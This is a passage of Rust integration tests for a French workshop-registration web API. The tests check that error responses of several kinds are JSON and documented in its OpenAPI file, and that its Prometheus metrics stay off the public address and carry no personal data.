        assert_eq!(reply.header("content-type"), Some("application/json"), "{path}");
        assert_eq!(reply.json()["code"], "requete_invalide", "{path}");
        assert!(reply.json()["message"].as_str().unwrap().starts_with("Adresse invalide"), "{path}");
    }
    let cancel = send(&agent, "DELETE", &format!("{}/api/inscriptions/pas-un-uuid", server.url), None, None);
    assert_eq!((cancel.status, cancel.header("content-type")), (400, Some("application/json")));
    let document = get(&agent, &format!("{}/api/openapi.json", server.url), &[]).json();
    let documented = &document["paths"]["/api/inscriptions/{id}"]["get"]["responses"]["400"];
    assert!(documented.is_object(), "the 400 is documented");
}

#[test]
fn method_length_and_field_errors_are_json_and_documented() {
    let server = Server::start(&["--limite-par-minute", "0"], &[]);
    let agent = agent();
    // 405 keeps its Allow and gets a body.
    let wrong = send(&agent, "DELETE", &format!("{}/api/catalogue/32", server.url), None, None);
    assert_eq!((wrong.status, wrong.header("content-type")), (405, Some("application/json")));
    assert_eq!(wrong.json()["code"], "methode_non_permise");
    assert!(wrong.header("allow").is_some_and(|a| a.contains("GET")), "{:?}", wrong.headers);
    // 414 and 431 below hyper's own limits, with a reason.
    let long = get(&agent, &format!("{}/api/catalogue/32?x={}", server.url, "a".repeat(9000)), &[]);
    assert_eq!((long.status, long.json()["code"].clone()), (414, json!("adresse_trop_longue")));
    let big = "b".repeat(20_000);
    let heavy = get(&agent, &format!("{}/api/catalogue/32", server.url), &[("X-Grand", &big)]);
    assert_eq!((heavy.status, heavy.json()["code"].clone()), (431, json!("en_tetes_trop_grands")));
    // A field of the wrong type or value is a 422 naming it.
    create_workshop(&server, "atelier-champs", days_from_now(10, 14), None);
    let url = format!("{}/api/inscriptions", server.url);
    for places in [json!(-1), json!(1.5), json!("deux")] {
        let mut body = registration(Uuid::new_v4(), "atelier-champs", 1);
        body["places"] = places.clone();
        let reply = send(&agent, "POST", &url, Some(&body), None);
        assert_eq!(reply.status, 422, "places {places}: {}", reply.body);
        assert_eq!(reply.json()["erreurs"][0]["champ"], "places", "{}", reply.body);
    }
    // A body that is not an object (serde would read a struct from an array).
    let array = send(&agent, "POST", &url, Some(&json!([null, null])), None);
    assert_eq!((array.status, array.json()["code"].clone()), (400, json!("requete_invalide")));
    // A missing field, or no JSON at all, stays a 400.
    let mut missing = registration(Uuid::new_v4(), "atelier-champs", 1);
    missing.as_object_mut().unwrap().remove("prenom");
    assert_eq!(send(&agent, "POST", &url, Some(&missing), None).status, 400);
    // Every operation documents the 414 and the 431.
    let document = get(&agent, &format!("{}/api/openapi.json", server.url), &[]).json();
    for (path, item) in document["paths"].as_object().unwrap() {
        for (method, operation) in item.as_object().unwrap() {
            for status in ["414", "431"] {
                assert!(operation["responses"][status].is_object(), "{method} {path} documents {status}");
            }
            if operation["requestBody"].is_object() {
                assert!(operation["responses"]["422"].is_object(), "{method} {path} takes a body and documents its 422");
            }
        }
    }
}

#[test]
fn metrics_on_their_own_address_count_requests_and_registrations_without_personal_data() {
    let server = Server::start(&["--metriques", "127.0.0.1:0", "--limite-par-minute", "0"], &[]);
    let metrics_url = server
        .banner
        .iter()
        .find_map(|line| line.strip_prefix("Mesures Prometheus : "))
        .expect("the metrics address is printed")
        .to_string();
    let agent = agent();
    create_workshop(&server, "atelier-mesures", days_from_now(10, 14), Some(1));
    let url = format!("{}/api/inscriptions", server.url);
    let first = registration(Uuid::new_v4(), "atelier-mesures", 1);
    assert_eq!(send(&agent, "POST", &url, Some(&first), None).status, 201);
    assert_eq!(send(&agent, "POST", &url, Some(&first), None).status, 200, "an outbox replay");
    assert_eq!(send(&agent, "POST", &url, Some(&registration(Uuid::new_v4(), "atelier-mesures", 1)), None).status, 201, "waiting list");
    let mut invalid = registration(Uuid::new_v4(), "atelier-mesures", 1);
    invalid["prenom"] = json!("");
    assert_eq!(send(&agent, "POST", &url, Some(&invalid), None).status, 422);
    assert_eq!(get(&agent, &format!("{}/api/sessions/atelier-mesures", server.url), &[]).status, 200);
    assert_eq!(get(&agent, &format!("{}/api/catalogue/32", server.url), &[]).status, 200);

    let text = get(&agent, &metrics_url, &[]).body;
    for line in [
        "proxinum_inscriptions_total{resultat=\"confirmee\"} 1",
        "proxinum_inscriptions_total{resultat=\"rejouee\"} 1",
        "proxinum_inscriptions_total{resultat=\"liste_attente\"} 1",
        "proxinum_inscriptions_total{resultat=\"invalide\"} 1",
    ] {
        assert!(text.lines().any(|l| l == line), "{line} in:\n{text}");
    }
    assert!(text.contains("proxinum_requetes_total{route=\"/api/sessions/{id}\",methode=\"GET\",statut=\"200\"} 1"), "{text}");
    assert!(text.contains("proxinum_requete_duree_secondes_bucket{route=\"/api/inscriptions\""), "{text}");
    assert!(text.contains("proxinum_catalogues_construits_total{territoire=\"32\"}"), "{text}");
    // No names, phones, ids of workshops or registrations in any label.
    for personal in ["Dupont", "Jeanne", "06 12", "atelier-mesures", first["id"].as_str().unwrap()] {
        assert!(!text.contains(personal), "{personal} in the metrics");
    }
    // Not on the public address.
    assert_eq!(get(&agent, &format!("{}/metrics", server.url), &[]).status, 404);
}
